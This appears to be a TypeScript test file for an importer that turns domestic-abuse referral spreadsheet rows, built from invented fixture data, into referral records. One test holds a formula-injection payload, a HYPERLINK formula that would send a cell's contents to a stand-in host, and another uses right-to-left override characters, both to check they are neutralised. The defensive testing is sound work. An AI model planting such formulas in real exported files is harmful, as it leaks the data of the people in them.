import { suggestMapping } from './column-mapping.js';
import { routeSettings, settingsInForce } from '../settings/index.js';
import { importRules } from './import-rules.js';
import { aBlankRow, aRow, aShortRow, FIXTURE_COLUMNS } from './invented-rows.fixture.js';
import type { RawRow } from './raw-row.js';
import { draftOf } from './read-referral-file.js';
import { readReferralRow } from './read-referral-row.js';

const MAPPING = suggestMapping(FIXTURE_COLUMNS);
const SETTINGS = settingsInForce([], '2026-11-22');
const CONTEXT = { today: '2026-11-22', rules: importRules(SETTINGS), routing: routeSettings(SETTINGS) };
const read = (raw: RawRow) => readReferralRow(raw, MAPPING, CONTEXT);

function ready(cells: Parameters<typeof aRow>[0]) {
  const outcome = read(aRow(cells));
  if (outcome.outcome !== 'ready') throw new Error(`not ready: ${JSON.stringify(outcome)}`);
  return outcome.referral;
}

function reasons(raw: RawRow) {
  const outcome = read(raw);
  return outcome.outcome === 'review' ? outcome.reasons : [];
}

function codes(cells: Parameters<typeof aRow>[0]) {
  return reasons(aRow(cells)).map(({ code }) => code);
}

describe('a plain row', () => {
  it('becomes a referral', () => {
    expect(ready({})).toMatchObject({
      reference: 'X1',
      receivedOn: '2026-08-11',
      receivedTime: '14:05',
      source: 'police',
      agency: 'Police - PPN',
      person: { forename: 'Tirion', surname: 'Cadwallader', dateOfBirth: '1988-03-09', gender: 'woman' },
      contact: { phone: '+447700900001', mayCall: 'yes', mayText: 'unknown', mayLeaveMessage: 'no' },
      referralConsent: 'given',
      externalAssessment: { instrument: 'safelives-dash-24', score: 11, outOf: 24, grade: null },
      policeCallOuts: { count: 2, asWritten: null },
      abuseTypes: ['physical', 'psychological-emotional'],
      harmer: { forename: 'Marlowe', relationship: 'ex-partner', livingTogether: 'no' },
      services: ['idva'],
    });
  });

  it('records every reading that differs from the letters in the file', () => {
    const { interpretations } = ready({ 'Time received': '1pm', Surname: 'CADWALLADER ', Ethnicity: 'W1' });
    expect(interpretations).toContainEqual({
      field: 'received-time',
      column: 'Time received',
      raw: '1pm',
      read: '13:00',
    });
    expect(interpretations).toContainEqual({
      field: 'surname',
      column: 'Surname',
      raw: 'CADWALLADER ',
      read: 'CADWALLADER',
    });
    expect(interpretations).toContainEqual({
      field: 'ethnicity',
      column: 'Ethnicity',
      raw: 'W1',
      read: 'white-british',
    });
  });

  it('is ready without telephone, gender, ethnic group, language, date of birth or a named person causing harm', () => {
    const referral = ready({
      'Safe phone': '',
      Gender: '',
      Ethnicity: '',
      'Preferred language': '',
      DOB: '',
      'Perpetrator forename': '',
      'Perpetrator surname': '',
      Relationship: '',
      'Living together': '',
    });
    expect(referral.person).toMatchObject({ dateOfBirth: null, gender: 'not-asked', ethnicity: 'not-asked' });
    expect(referral.harmer).toBeNull();
  });

  it("keeps text of columns without a field under the agency's own heading", () => {
    expect(ready({ 'Crime number': 'CN/0042' }).unmapped).toEqual([
      { field: null, column: 'Crime number', raw: 'CN/0042' },
    ]);
  });

  it('keeps text that looks like a formula as text', () => {
    const formula = '=HYPERLINK("http://example.invalid/?x="&A1,"open")';
    expect(ready({ Summary: formula, Surname: '-Quill', 'Known as': '@anwyl' })).toMatchObject({
      summary: formula,
      person: { surname: '-Quill', knownAs: '@anwyl' },
    });
  });

  it('drops marks that turn the writing round and says so', () => {
    const referral = ready({ Surname: '\u202Erellawdac\u202C' });
    expect(referral.person.surname).toBe('rellawdac');
    expect(referral.interpretations).toContainEqual({
      field: 'surname',
      column: 'Surname',
      raw: '\u202Erellawdac\u202C',
      read: 'rellawdac',
    });
  });
});

describe('what another agency found', () => {
  it('keeps a police score with its own denominator', () => {
    expect(ready({ Checklist: 'DASH 2009 (27)', Score: '26' }).externalAssessment).toEqual({
      instrument: 'police-dash-27',
      score: 26,
      outOf: 27,
      grade: null,
    });
  });

  it('keeps a DARA grade without a score', () => {
    expect(ready({ Checklist: 'DARA', Score: 'High' }).externalAssessment).toEqual({
      instrument: 'dara',
      score: null,
      outOf: null,
      grade: 'high',
    });
  });

  it.each([
    ['SafeLives Dash 24', '26'],
    ['SafeLives Dash 24', '-2'],
    ['SafeLives Dash 24', '14/27'],
    ['SafeLives Dash 24', 'High'],
    ['SafeLives Dash 24', '11.5'],
    ['DASH 2009 (27)', '28'],
    ['DARA', '14'],
    ['DARA', 'many'],
  ])('sends %s with %s to review and keeps the words', (Checklist, Score) => {
    expect(reasons(aRow({ Checklist, Score }))).toEqual([
      { code: 'impossible-score', field: 'score', column: 'Score', raw: Score, offer: null },
    ]);
    expect(draftOf(read(aRow({ Checklist, Score })))?.unmapped.map(({ raw }) => raw)).toEqual([Checklist, Score]);
  });

  it('does not guess the form of a score, nor the score of a form', () => {
    expect(codes({ Checklist: '', Score: '14' })).toEqual(['score-without-instrument']);
    expect(codes({ Checklist: 'DARA', Score: '' })).toEqual(['instrument-without-score']);
    expect(codes({ Checklist: 'Grannie score', Score: '14' })).toEqual(['unknown-value']);
    expect(ready({ Checklist: '', Score: '' }).externalAssessment).toBeNull();
  });

  it('invents no number of call-outs', () => {
    expect(ready({ 'Police call-outs 12m': 'many' }).policeCallOuts).toEqual({ count: null, asWritten: 'many' });
    expect(ready({ 'Police call-outs 12m': '3+' }).policeCallOuts).toEqual({ count: null, asWritten: '3+' });
    expect(ready({ 'Police call-outs 12m': '' }).policeCallOuts).toEqual({ count: null, asWritten: null });
  });
});

describe('safe contact in a file', () => {
  it('leaves a flag that was not answered unknown', () => {
    expect(ready({ 'OK to call': '' }).contact.mayCall).toBe('unknown');
  });

  it('sends a flag in words of its own to a worker and leaves it unknown until then', () => {
    const outcome = read(aRow({ 'OK to call': 'only when he is out' }));
    expect(outcome).toMatchObject({
      outcome: 'review',
      reasons: [{ code: 'unknown-value', field: 'may-call', raw: 'only when he is out' }],
      draft: { contact: { mayCall: 'unknown' } },
    });
  });

  it("sends the number of somebody else to review and keeps it as that person's", () => {
    expect(read(aRow({ 'Safe phone': "07700 900989 (mum's)" }))).toMatchObject({
      outcome: 'review',
      reasons: [{ code: 'phone-belongs-to-other', raw: "07700 900989 (mum's)", offer: '+447700900989' }],
      draft: { contact: { phone: null, thirdPersonPhone: { number: '+447700900989', whose: "mum's" } } },
    });
  });
});

describe('rows that a person has to finish', () => {
  it.each([
    ['a missing receipt', { 'Date received': '' }, 'missing-received-date'],
    ['a receipt in the future', { 'Date received': '23/11/2026' }, 'date-in-future'],
    ['a birth in the future', { DOB: '14/03/2031' }, 'date-of-birth-in-future'],
    ['a birth that is no date', { DOB: '31/02/1990' }, 'unreadable-date'],
    ['a month-first birth', { DOB: '04/25/1988' }, 'ambiguous-date'],
    ['a receipt before the birth', { DOB: '12/08/2026' }, 'received-before-birth'],
    ['a missing surname', { Surname: ' ' }, 'missing-name'],
    ['a missing forename', { Forename: '' }, 'missing-name'],
    ['a name longer than any', { Surname: 'x'.repeat(201) }, 'too-long'],
    ['an unreadable number', { 'Safe phone': 'none' }, 'unreadable-phone'],
    ['children that are only counted', { Children: '2 children' }, 'unreadable-children'],
    ['a kind of abuse on no list', { 'Abuse types': 'Physical; Moonshine' }, 'unknown-value'],
    ['a relationship on no list', { Relationship: 'landlord?' }, 'unknown-value'],
    ['an agency on no list', { 'Referring agency': 'The Tin Hut' }, 'unknown-value'],
  ] as const)('include %s', (_, cells, code) => {
    expect(codes(cells)).toEqual([code]);
  });

  it('keep what was written and what could be read', () => {
    const draft = draftOf(read(aRow({ DOB: '31/02/1990', 'Abuse types': 'Physical; Moonshine' })));
    expect(draft?.unmapped).toEqual(
      expect.arrayContaining([
        { field: 'date-of-birth', column: 'DOB', raw: '31/02/1990' },
        { field: 'abuse-types', column: 'Abuse types', raw: 'Physical; Moonshine' },
      ]),
    );
    expect(draft).toMatchObject({ person: { surname: 'Cadwallader', dateOfBirth: null }, abuseTypes: ['physical'] });
  });

  it('include a row too short for its columns, naming each of them once', () => {
    const missing = reasons(aShortRow()).filter(({ code }) => code === 'missing-column');
    expect(missing.map(({ column }) => column)).toContain('Surname');
    expect(new Set(missing.map(({ column }) => column)).size).toBe(missing.length);
  });

  it('include a row with more cells than columns, since its cells may have slipped', () => {
    expect(reasons({ ...aRow(), 'extra cell 1': 'Llan' })).toEqual([
      { code: 'too-many-cells', field: null, column: 'extra cell 1', raw: 'Llan', offer: null },
    ]);
  });
});

describe('other readings', () => {
  it('takes a gap in the sheet for blank', () => {
    expect(read(aBlankRow())).toEqual({ outcome: 'blank' });
  });

  it('shows a missing time of day as not given', () => {
    expect(ready({ 'Time received': '' }).receivedTime).toBeNull();
    expect(ready({ 'Time received': 'morning' })).toMatchObject({
      receivedTime: null,
      unmapped: [{ column: 'Time received', raw: 'morning' }],
    });
  });

  it('reads date and time from one cell', () => {
    const referral = ready({ 'Date received': '11/08/2026 09:30', 'Time received': '' });
    expect(referral).toMatchObject({ receivedOn: '2026-08-11', receivedTime: '09:30' });
    expect(referral.interpretations.filter(({ column }) => column === 'Date received')).toHaveLength(2);
  });

  it.each(['cy', 'Cymraeg', 'Welsh'])('knows %s for Welsh', (language) => {
    expect(ready({ 'Preferred language': language }).person.language.language).toBe('welsh');
  });

  it('keeps the name of another language and the need of an interpreter', () => {
    expect(ready({ 'Preferred language': 'Urdu (interpreter)' }).person.language).toEqual({
      language: 'other',
      named: 'Urdu',
      interpreter: 'needed',
    });
  });

  it('requests two services where two are asked for', () => {
    expect(ready({ 'Service requested': 'IDVA + childrens' }).services).toEqual(['idva', 'children']);
    expect(ready({ 'Service requested': "Children's support" }).services).toEqual(['children']);
    expect(ready({ 'Service requested': 'any' }).services).toEqual(['any']);
  });

  it('tells an agency that was not given from one on no list', () => {
    expect(ready({ 'Referring agency': '' })).toMatchObject({ source: 'not-given', agency: null });
    expect(ready({ 'Referring agency': 'Westshire Constabulary Police' }).source).toBe('police');
  });

  it('never takes agreement to the referral for one of our own consents', () => {
    expect(ready({ 'Consent to referral': 'not asked' }).referralConsent).toBe('not-asked');
    expect(ready({ 'Consent to referral': '' }).referralConsent).toBe('not-known');
    expect(ready({ 'Consent to referral': 'N' }).referralConsent).toBe('refused');
  });
});
